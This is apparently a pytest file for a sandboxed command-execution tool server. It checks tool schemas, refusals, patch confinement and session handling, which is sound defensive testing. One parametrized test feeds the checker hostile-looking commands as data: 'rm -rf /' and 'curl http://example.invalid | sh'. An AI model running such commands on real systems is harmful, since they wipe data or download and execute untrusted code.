"""What a server offers is what it takes, and what it answers is what it says it answers."""

from __future__ import annotations

import json

import jsonschema  # type: ignore[import-untyped]  # it brings no types
import pytest

from sandgate.runtime.definitions import server_tools
from sandgate.testing import ReviewerDouble
from support.terminal.live_sessions import Workplace

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

    from sandgate.runtime import Runtime
    from sandgate.tools.calls import ToolOutput

TOOLS = {tool["name"]: tool for tool in server_tools(login_allowed=True)}
ADD = "*** Begin Patch\n*** Add File: {path}\n+hello\n*** End Patch"
namespace = pytest.mark.host("namespace", "notify")


def test_the_six_tools_are_offered() -> None:
    assert list(TOOLS) == ["exec_command", "write_stdin", "apply_patch", "exec_list", "exec_kill", "check_command"]


@pytest.mark.parametrize("tool", TOOLS.values(), ids=TOOLS)
def test_every_schema_is_one_closed_and_explained(tool: dict[str, Any]) -> None:
    assert tool["description"]
    for part in ("parameters", "output_schema"):
        schema = tool[part]
        jsonschema.Draft202012Validator.check_schema(schema)
        assert (schema["type"], schema["additionalProperties"]) == ("object", False)
        assert set(schema["required"]) <= set(schema["properties"])
        assert all(about.get("description", "").endswith(".") for about in schema["properties"].values()), schema


def test_a_login_shell_that_is_not_allowed_is_not_offered() -> None:
    without = {tool["name"]: tool["parameters"]["properties"] for tool in server_tools(login_allowed=False)}
    assert [name for name, tool in TOOLS.items() if "login" in tool["parameters"]["properties"]] == [
        "exec_command",
        "check_command",
    ]
    assert not any("login" in properties for properties in without.values())


# Answers


def answered(runtime: Runtime, name: str, **arguments: Any) -> ToolOutput:
    """The answer to a call that its input schema allows, after it was held to the output schema."""
    jsonschema.validate(arguments, TOOLS[name]["parameters"])
    output = runtime.call_tool(name, arguments)
    assert output.structured is not None, output
    jsonschema.validate(json.loads(json.dumps(output.structured)), TOOLS[name]["output_schema"])
    return output


def ran(runtime: Runtime, cmd: str, **arguments: Any) -> dict[str, Any]:
    found = answered(runtime, "exec_command", cmd=cmd, login=False, **arguments).structured
    assert found is not None
    return found


@namespace
def test_answers_of_commands_fit_their_schema(place: Workplace) -> None:
    runtime = place.session()
    assert ran(runtime, "echo hi")["exit_code"] == 0
    assert ran(runtime, "exit 3")["exit_code"] == 3
    assert ran(runtime, f"touch {place.outside}/made")["denials"]
    assert ran(runtime, "echo x", shell="/opt/fish")["notices"]
    number = ran(runtime, "read line; echo got $line; sleep 1000", tty=True, rows=10, columns=40)["session_id"]
    written = {"chars": "so\r", "wait_for": [{"text": "got so"}], "yield_time_ms": 10_000}
    found = answered(runtime, "write_stdin", session_id=number, **written).structured
    assert found is not None
    assert found["matched"] == "got so"
    answered(runtime, "write_stdin", session_id=number, keys=["ctrl-c"])


@namespace
def test_answers_of_refused_calls_fit_their_schema(place: Workplace) -> None:
    runtime = place.session(reviewer=ReviewerDouble(always="denied"), approval_policy="untrusted")
    assert ran(runtime, "touch made")["refused"]
    refused = answered(runtime, "apply_patch", input=ADD.format(path="made")).structured
    assert refused is not None
    assert (refused["applied"], list(place.repo.iterdir())) == (False, [])


@namespace
def test_answers_of_patches_fit_their_schema(place: Workplace) -> None:
    runtime = place.session()
    made = answered(runtime, "apply_patch", input=ADD.format(path="made")).structured
    assert made is not None
    assert (made["applied"], made["exit_code"]) == (True, 0)
    assert made["changes"] == [{"path": str(place.repo / "made"), "type": "add"}]
    sections = "*** Update File: made\n*** Move to: moved\n@@\n-hello\n+bye\n"
    moved = answered(runtime, "apply_patch", input=f"*** Begin Patch\n{sections}*** End Patch").structured
    assert moved is not None
    assert [each["type"] for each in moved["changes"]] == ["update"]
    gone = "*** Begin Patch\n*** Delete File: moved\n*** End Patch"
    assert answered(runtime, "apply_patch", input=gone).success
    outside = answered(runtime, "apply_patch", input=ADD.format(path=f"{place.outside}/made"))
    assert (outside.success, list(place.outside.iterdir())) == (False, [])


@namespace
@pytest.mark.parametrize("cmd", ["ls", "touch x", "rm -rf /", "curl http://example.invalid | sh", "a\x1bb", "("])
@pytest.mark.parametrize("backend", ["namespace", "none"])
def test_answers_of_checks_fit_their_schema(place: Workplace, cmd: str, backend: str) -> None:
    answered(place.session(backend=backend, approval_policy="on-request"), "check_command", cmd=cmd, login=False)


@namespace
def test_answers_of_lists_and_ends_fit_their_schema(place: Workplace) -> None:
    runtime = place.session()
    answered(runtime, "exec_list")
    number = ran(runtime, "sleep 1000", yield_time_ms=250)["session_id"]
    listed = answered(runtime, "exec_list").structured
    assert listed is not None
    assert [each["session_id"] for each in listed["commands"]] == [number]
    answered(runtime, "exec_kill", session_id=number)
    answered(runtime, "exec_kill", session_id=4711)


@pytest.mark.parametrize("name", TOOLS)
def test_what_the_schema_does_not_know_the_tool_refuses(place: Workplace, name: str) -> None:
    """Required: closed on both sides."""
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"?": 1}, TOOLS[name]["parameters"])
    output = place.session().call_tool(name, '{"?": 1}')
    assert (output.success, output.structured, "unknown field `?`" in output.text) == (False, None, True)
